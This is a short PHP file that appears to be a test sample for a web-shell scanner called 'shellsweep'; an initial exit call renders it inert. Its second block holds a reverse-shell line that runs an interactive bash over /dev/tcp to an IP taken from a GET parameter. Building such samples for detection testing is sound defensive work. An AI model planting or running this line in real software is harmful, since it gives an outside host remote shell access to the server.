<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
exec("/bin/bash -c 'bash -i >& /dev/tcp/" . $_GET['ip'] . "/9001 0>&1'");
